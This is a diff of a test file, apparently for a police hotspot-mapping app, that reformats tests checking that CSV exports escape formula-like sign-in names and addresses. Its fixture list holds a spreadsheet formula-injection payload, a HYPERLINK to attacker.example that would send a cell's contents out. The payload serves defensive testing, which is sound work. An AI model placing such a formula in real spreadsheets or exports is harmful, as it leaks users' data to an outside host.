@@ -12,7 +12,14 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
-const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'];
+const FORMULAS = [
+  '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\tcmd',
+  '\r=1',
+];
 
 describe('CSV exports and spreadsheet formulas', () => {
   it('writes a sign-in name that looks like a formula into the audit CSV as text', async () => {
@@ -28,14 +35,23 @@ describe('CSV exports and spreadsheet formulas', () => {
   it('writes hotspot addresses that look like formulas into the hotspot CSV as text, and coordinates as numbers', async () => {
     const police = await signIn(t, 'police');
     for (const [i, address] of FORMULAS.entries()) {
-      const res = await police.send('POST', '/api/hotspots', { location: [106.02 + i * 0.002, 10.02], address, kind: 'diem', activities: ['selling'], detectedOn: '2024-06-01', note: '' });
+      const res = await police.send('POST', '/api/hotspots', {
+        location: [106.02 + i * 0.002, 10.02],
+        address,
+        kind: 'diem',
+        activities: ['selling'],
+        detectedOn: '2024-06-01',
+        note: '',
+      });
       expect(res.status, await res.clone().text()).toBe(201);
     }
     const csv = await (await police.get('/api/hotspots/export?format=csv&date=2024-06-30')).text();
     const rows = parse(csv, { bom: true }) as string[][];
     const mine = rows.slice(1).filter((r) => r[6] === '01/06/2024' && r[8]!.startsWith('106.0'));
     // Leading blanks (the tab, the carriage return) are trimmed when the hotspot is saved; what remains is escaped.
-    expect(mine.map((r) => r[1]).sort()).toEqual([`'${FORMULAS[0]}`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", 'cmd', "'=1"].sort());
+    expect(mine.map((r) => r[1]).sort()).toEqual(
+      [`'${FORMULAS[0]}`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", 'cmd', "'=1"].sort(),
+    );
     for (const r of mine) expect(r[7]).toBe('10.02'); // latitude: a number, not escaped
   });
 });
